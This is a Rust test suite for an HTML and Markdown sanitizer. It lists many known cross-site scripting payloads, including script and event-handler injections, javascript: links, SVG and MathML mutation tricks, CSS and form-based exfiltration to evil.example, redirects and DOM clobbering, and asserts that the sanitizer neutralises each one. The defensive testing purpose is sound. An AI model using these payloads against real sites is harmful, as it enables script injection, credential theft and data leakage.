//! Attacks that are known, in the forms in which they are known. None may leave anything behind.

use crate::Sanitizer;
use crate::inspection::assert_harmless;

const SCRIPTS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>text",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover = 'alert(1)'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<b \x0conclick=alert(1)>x</b>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'><embed src=//evil.example/x.swf></object>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
];

const ADDRESSES: [&str; 25] = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&NewLine;:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/auth/logout'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='view-source:javascript:x'>x</a>",
    "<a href='https://user:password@evil.example/'>x</a>",
    "<a href='https://good.example' target=_blank>x</a>",
    "<a href='https://good.example' ping='//evil.example'>x</a>",
    "<a href='https://good.example' download rel=opener>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2x 2x' alt=a>",
    "<picture><source srcset='//evil.example/x'><img src='/x'></picture>",
    "<img src='https://media.example/ok.png' onload=alert(1) style='position:fixed'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<table background='javascript:alert(1)'><tr><td background='//evil.example'>x</td></tr></table>",
    "<video poster='javascript:alert(1)' src='//evil.example'></video>",
];

const FOREIGN: [&str; 26] = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><textarea><a title=\"</textarea><img src='#' onerror='alert(1)'>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img src onerror=alert(1)></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style></select>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='<!--'><!--' --!><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
];

/// What is known to turn MathML into HTML on a second reading, and what else hides in formulas.
const FORMULAS: [&str; 44] = [
    "<math><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></mtext></math>",
    "<math><mtext><title><a title=\"</title><img src onerror=alert(1)>\"></title></mtext></math>",
    "<math><mi><mglyph><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<math><mi><malignmark><style><!--</style><img src onerror=alert(1)>--></malignmark></mi></math>",
    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img src onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></table></mtext></math>",
    "<math><mtext><table><tr><td><mglyph><style><img src onerror=alert(1)></style></td></tr></table></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><p><img src onerror=alert(1)></p></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><style><!--</style><img src onerror=alert(1)>--></annotation-xml></math>",
    "<math><annotation-xml><svg><style><img src onerror=alert(1)></style></svg></annotation-xml></math>",
    "<math><annotation-xml encoding='MathML-Content'><apply><plus/><ci>x</ci></apply></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'></annotation><img src onerror=alert(1)></semantics></math>",
    "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'>&lt;/annotation>&lt;img src onerror=alert(1)></annotation></semantics></math>",
    "<math><annotation encoding='application/x-tex'>x</math><img src onerror=alert(1)>",
    "<math><annotation encoding='application/x-tex'>\\text{</annotation></semantics></math><img src onerror=alert(1)>}</annotation>",
    "<math><annotation encoding='application/x-tex'>\\operatorname{&lt;img src onerror=alert(1)&gt;}</annotation></math>",
    "<math><annotation encoding='application/x-tex'>\\href{javascript:alert(1)}{x}</annotation></math>",
    "<math><annotation encoding='application/x-tex'>\\color{red;background:url(//evil.example)}x</annotation></math>",
    "<math><mrow><p>text<mi>x</mi></p></mrow></math>",
    "<math><mi>x<p>text</mi></math></p>",
    "<math><mtext><p><mi>x</mi></p></mtext></math>",
    "<math><mtext></p></mtext></math>",
    "<math></p><mi>x</math>",
    "<math></br><mi>x</math>",
    "<math><mi></math></mi><img src onerror=alert(1)>",
    "<math><math><mi>x</math><mo>y</math>",
    "<math><mi href='javascript:alert(1)' onclick='alert(1)' style='position:fixed' id=main>x</mi></math>",
    "<math xlink:href='javascript:alert(1)' xmlns:xlink='http://www.w3.org/1999/xlink'><mi>x</mi></math>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mspace width='9999em' height='9999em'/><mpadded voffset='-999em' lspace='-99em'><mi>x</mi></mpadded></math>",
    "<math><mo minsize='1e9em' maxsize='99999px'>(</mo></math>",
    "<math><mtable><mtr><mtd columnspan=65535 rowspan=65535 class='overlay banner'>x</mtd></mtr></mtable></math>",
    "<math><mfenced open='&lt;script>' close='\"onclick=alert(1)' separators='<img'><mi>x</mi><mi>y</mi></mfenced></math>",
    "<math><mi><![CDATA[<img src onerror=alert(1)>]]></mi></math>",
    "<math><mi><!--</mi><img src onerror=alert(1)>--></mi></math>",
    "<math><script>alert(1)</script><mi>x</mi></math>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><ms lquote='<img src onerror=alert(1)>'>x</ms></math>",
    "<math><mi>\u{fdd0}0\u{fdd0}</mi></math>\u{fdd0}0\u{fdd0}<p title='\u{fdd0}0\u{fdd0}'>x</p>",
    "<math><none><mprescripts><mspace><img src onerror=alert(1)></mspace></math>",
    "$\\text{</math><img src onerror=alert(1)>}$ and $x<img src onerror=alert(1)>$",
    "$\\operatorname{&lt;script&gt;alert(1)&lt;/script&gt;}$ $\\text{&lt;img src onerror=alert(1)&gt;}$",
    "\\(\\unicode{x3c}script\\) \\[\\char`<img\\] $\\style{position:fixed}{x}$ $\\class{a}{x}$",
];

const CODE: [&str; 8] = [
    "<pre><code class=\"language-python\">a < b</code></pre>",
    "<pre class='language-c++ line-numbers'>x</pre>",
    "<code class='language-\" onclick=alert(1)'>x</code>",
    "<code class='language-python banner'>x</code>",
    "<code class='language-PYTHON'>x</code>",
    "<code class='language-abcdefghijklmnopqrstuvwxyz'>x</code>",
    "<p class='language-python'>x</p>",
    "```python onclick=alert(1)\n<img src onerror=alert(1)>\n```",
];

const STYLES_AND_FORMS: [&str; 25] = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<p class='banner notice'>x</p>",
    "<aside class='notes overlay'>x</aside>",
    "<font color='expression(alert(1))'>x</font>",
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)' form=quiz>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input form=quiz name=a1 value=x>",
    "<label for=submit>x</label>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select name=a1><option selected>x</option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=0>x</p>",
    "<p hidden inert popover>x</p>",
    "<dialog open>x</dialog>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<p role=alert aria-live=assertive aria-hidden=true>x</p>",
];

const CLOBBERING: [&str; 10] = [
    "<img name=cookie><img name=getElementById>",
    "<a id=deck><a id=deck name=length href='tel:1'>x</a>",
    "<form id=document><img name=body></form>",
    "<p id='main'>x</p><p id=\"result\">y</p>",
    "<a href='#main'>x</a><p aria-labelledby='main title'>y</p>",
    "<table><tr><th id=a>x</th><td headers='a b'>y</td></tr></table>",
    "<iframe name=top></iframe><object name=self></object>",
    "<p id=''>x</p><p id=' '>y</p>",
    "<p id=content-x>x</p><a href='#content-x'>y</a>",
    "<p slot=x part=y is=z itemprop=w data-deck=1 nonce=n>x</p>",
];

const MARKDOWN: [&str; 14] = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](  javascript:alert(1) \"onclick=alert(1)\")",
    "![x](https://evil.example/pixel.gif\"onerror=alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "# a <img src=x onerror=alert(1)>",
    "- b\n\n  <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "a[^1]\n\n[^1]: <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src onerror=alert(1)> |",
];

fn sanitizer() -> Sanitizer {
    Sanitizer::new(vec!["https://media.example".to_owned()])
}

#[track_caller]
fn assert_all_harmless(payloads: &[&str]) {
    let sanitizer = sanitizer();
    for payload in payloads {
        for text in [
            (*payload).to_owned(),
            format!("before {payload} after"),
            format!("<div><p>before</p>{payload}<p>after</p></div>"),
            format!("<table><tr><td>{payload}</table>"),
            format!("# Title\n\n{payload}\n\n- item"),
            format!("<p title=\"{payload}\">x</p>"),
            format!("<section><h2>{payload}</h2></section><section>{payload}</section>"),
        ] {
            assert_harmless(sanitizer.content(&text).as_str(), &text);
            assert_harmless(sanitizer.html(&text).as_str(), &text);
            for slide in sanitizer.slides(&text) {
                assert_harmless(slide.content.as_str(), &text);
                assert_harmless(slide.notes.as_str(), &text);
            }
        }
    }
}

#[test]
fn scripts_and_event_handlers_never_reach_a_page() {
    assert_all_harmless(&SCRIPTS);
}

#[test]
fn addresses_that_act_or_load_never_reach_a_page() {
    assert_all_harmless(&ADDRESSES);
}

#[test]
fn svg_mathml_and_mutation_tricks_never_reach_a_page() {
    assert_all_harmless(&FOREIGN);
}

#[test]
fn mathml_is_no_way_around() {
    assert_all_harmless(&FORMULAS);
    let sanitizer = sanitizer();
    for payload in FORMULAS {
        let once = sanitizer.html(payload);
        assert_eq!(sanitizer.html(once.as_str()), once, "{payload}");
    }
}

#[test]
fn code_names_its_language_and_nothing_else() {
    assert_all_harmless(&CODE);
}

#[test]
fn styles_forms_and_redirects_never_reach_a_page() {
    assert_all_harmless(&STYLES_AND_FORMS);
}

#[test]
fn ids_never_name_a_part_of_the_page() {
    assert_all_harmless(&CLOBBERING);
}

#[test]
fn markdown_is_no_way_around() {
    assert_all_harmless(&MARKDOWN);
}

#[test]
fn the_inspection_would_notice() {
    let sneaked = [
        "<script>1</script>",
        "<p onclick=x>x</p>",
        "<a href=javascript:x>x</a>",
        "<p style=x>x</p>",
        "<p id=main>x</p>",
        "<img src=https://evil.example/x>",
        "<svg></svg>",
        "<!-- x -->",
        "<input>",
        "<math><mi href=x>x</mi></math>",
        "<math><mi style=x>x</mi></math>",
        "<math><mtext><b>x</b></mtext></math>",
        "<math><mglyph></mglyph></math>",
        "<math><annotation-xml encoding=text/html><p>x</p></annotation-xml></math>",
        "<math><maction>x</maction></math>",
        "<p class=banner>x</p>",
        "<code class='language-python banner'>x</code>",
    ];
    for html in sneaked {
        assert!(std::panic::catch_unwind(|| assert_harmless(html, html)).is_err(), "{html}");
    }
}
